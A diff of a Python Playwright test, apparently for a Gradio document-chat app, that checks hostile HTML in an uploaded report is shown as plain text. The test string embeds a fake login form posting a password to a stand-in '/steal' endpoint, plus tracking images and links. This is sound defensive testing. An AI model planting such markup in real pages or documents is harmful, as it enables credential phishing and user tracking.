@@ -38,7 +38,7 @@ def test_upload_names_cannot_escape_the_uploads_folder():
 
 
 HOSTILE = (
-    "青石镇通过社区众筹的方式建设口袋公园<form action='http://127.0.0.1:9/steal'><input type='password' "
+    "白沙村通过社区众筹的方式建设村口书屋<form action='http://127.0.0.1:9/steal'><input type='password' "
     "name='pw'><button>登录</button></form><img src='http://127.0.0.1:9/track.png'>，"
     "详见[领奖](http://127.0.0.1:9/prize)和![图](http://127.0.0.1:9/md.png)以及 http://127.0.0.1:9/auto 。"
 )
@@ -171,19 +171,20 @@ def test_hostile_html_in_a_report_is_shown_as_text_never_as_elements(page, tmp_p
     requests: list[str] = []
     page.on("request", lambda request: requests.append(request.url))
     report = tmp_path / "hostile.md"
-    report.write_text(f"# 青石镇口袋公园\n\n{HOSTILE}\n", encoding="utf-8")
+    report.write_text(f"# 白沙村书屋\n\n{HOSTILE}\n", encoding="utf-8")
     page.get_by_role("tab", name="Documents").click()
     page.locator("#upload input[type=file]").set_input_files([str(report)])
     page.locator("#ingest").click()
-    page.locator("#ingest-status").get_by_text("1 file(s) ingested").wait_for()
+    page.locator("#documents").get_by_text("hostile.md").wait_for()  # the earlier upload's status says the same
     page.get_by_role("tab", name="Chat").click()
-    _ask(page, "青石镇是怎样建设口袋公园的？")
+    _ask(page, "白沙村是怎样建设村口书屋的？")
     page.locator("#chat a[href='#cite-6-1']").wait_for()
     page.locator("#chat a[href='#cite-6-1']").first.click()
     page.locator("#cite-6-1.active").wait_for()
     chat = page.locator("#chat")
     assert "<form action=" in chat.inner_text()  # the report's markup reached the chat, as text
-    for selector in ("form", "input", "img", "button", "a[href*='127.0.0.1:9']"):
+    for selector in ("form", "input", "img", "a[href*='127.0.0.1:9']"):
         assert page.locator(f"#chat {selector}, #sources {selector}").count() == 0, selector
+    assert page.locator("#chat button, #sources button", has_text="登录").count() == 0  # Gradio's own buttons only
     assert not [url for url in requests if "127.0.0.1:9/" in url]
     page.screenshot(path=str(ARTIFACTS / "6-hostile-html.png"))
